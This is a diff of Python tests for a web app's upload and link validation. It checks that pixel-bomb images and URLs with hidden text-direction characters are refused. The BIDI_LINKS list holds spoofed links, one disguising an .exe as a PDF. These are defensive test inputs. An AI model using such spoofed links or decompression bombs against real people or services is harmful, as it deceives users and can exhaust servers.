+    with pytest.raises(ValidationError, match="cannot check what is inside this PDF"):
+        uploads.check_upload(upload("a.pdf", data))
+
+
+# ---------------------------------------------------------------------------------------------
+# Images: refused by their pixel count before any pixel is decoded
+
+
+@pytest.mark.parametrize("pillow_limit", [Image.MAX_IMAGE_PIXELS, None])
+@pytest.mark.parametrize(
+    "key",
+    [
+        "png claiming 100,000 x 100,000 pixels",
+        "png claiming 8,000 x 8,000 pixels (under Pillow's own limit)",
+        "jpeg claiming 65,535 x 65,535 pixels",
+    ],
+)
+def test_a_pixel_bomb_is_refused_without_decoding_it(monkeypatch, key, pillow_limit):
+    # Pillow's own limit may be off (None) in the process; ours does not depend on it.
+    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", pillow_limit)
+    decoded = []
+    original = ImageFile.ImageFile.load
+
+    def load(self):
+        decoded.append(self.size)
+        return original(self)
+
+    monkeypatch.setattr(ImageFile.ImageFile, "load", load)
+    name, data = MALICIOUS[key]
+    assert len(data) < 2000
+    with pytest.raises(ValidationError, match="pixels"):
+        uploads.check_upload(upload(name, data))
+    assert decoded == []
+    # The spy does see a real decode, so an empty list means none happened.
+    uploads.check_upload(upload("a.png", image_bytes("PNG")))
+    assert decoded and set(decoded) == {(40, 30)}
+
+
+# ---------------------------------------------------------------------------------------------
+# Direction controls in the links people enter
+
+
+BIDI_LINKS = [
+    "https://www.example.nhs.uk/report\u202efdp.exe",
+    "https://www.example.nhs.uk/\u2067report\u2069",
+    "https://www.example.nhs.uk/report%E2%80%AEfdp.exe",
+    "https://www.exam\u200fple.nhs.uk/",
+]
+
+
+@pytest.mark.parametrize("url", BIDI_LINKS)
+def test_links_with_direction_controls_are_refused_in_every_link_field(cast, url):
+    from involve.engagement.forms import PartnerForm, TermsForm
+    from involve.engagement.views.evidence import EvidenceLinkForm
+
+    from ..engagement.factories import make_partner
+
+    message = "The web address contains hidden characters that change the direction of text"
+    evidence = EvidenceLinkForm(
+        data={"title": "Page", "url": url, "dated-day": "1", "dated-month": "2", "dated-year": "2025"}
+    )
+    assert not evidence.is_valid() and message in evidence.errors["url"][0]
+    partner = PartnerForm(organisation=cast.org_a, data={"name": "Healthwatch", "website": url})
+    assert not partner.is_valid() and message in partner.errors["website"][0]
+    terms = TermsForm(organisation=cast.org_a, partner=make_partner(cast.org_a), data={"document_url": url})
+    assert not terms.is_valid() and message in terms.errors["document_url"][0]
+
+
+def test_an_ordinary_link_is_not_refused():
+    from involve.core.forms import no_bidi_controls
+
+    no_bidi_controls("https://www.example.nhs.uk/report?id=%D8%B9%D8%B1%D8%A8%D9%8A")  # Arabic, %-encoded
+    no_bidi_controls("")
+
+
+def test_adding_a_spoofed_link_through_the_page_stores_nothing(cast, client_for):
+    from involve.engagement.models import Evidence
+
+    from ..engagement.factories import make_decision
+
+    decision = make_decision(cast.org_a)
+    response = client_for(cast.a_engagement_lead).post(
+        reverse("engagement:evidence_add_link_decision", args=[decision.pk]),
+        {"title": "Spoof", "url": BIDI_LINKS[0], "dated-day": "1", "dated-month": "2", "dated-year": "2025"},
+    )
+    assert response.status_code == 400
+    assert "hidden characters that change the direction of text" in response.content.decode()
+    assert not Evidence.objects.filter(title="Spoof").exists()
+
+
+# ---------------------------------------------------------------------------------------------
+# The scorecard: every hostile fixture, through check_upload
+
+
+def test_scorecard_hostile_uploads(scorecard):
+    accepted = []
+    for key, (name, data) in {**MALICIOUS, **BIDI_NAMED}.items():
+        try:
+            uploads.check_upload(upload(name, data), max_bytes=1 * MB)
+        except ValidationError:
+            continue
+        accepted.append(key)
+    # Hostile names on good content are kept, but only once neutralised.
+    unsafe_names = []
+    for name, expected in HOSTILE_NAMES.items():
+        file = io.BytesIO(minimal_pdf())
+        file.name = name
+        shown = uploads.check_upload(file).original_name
+        if shown != expected or any(c in shown for c in "/\\\0") or shown.startswith("."):
+            unsafe_names.append(name)
+    scorecard.add(
+        scorecard.HOSTILE_UPLOADS,
+        found=len(accepted) + len(unsafe_names),
+        checked=len(MALICIOUS) + len(BIDI_NAMED) + len(HOSTILE_NAMES),
+    )
+    assert accepted == [] and unsafe_names == []
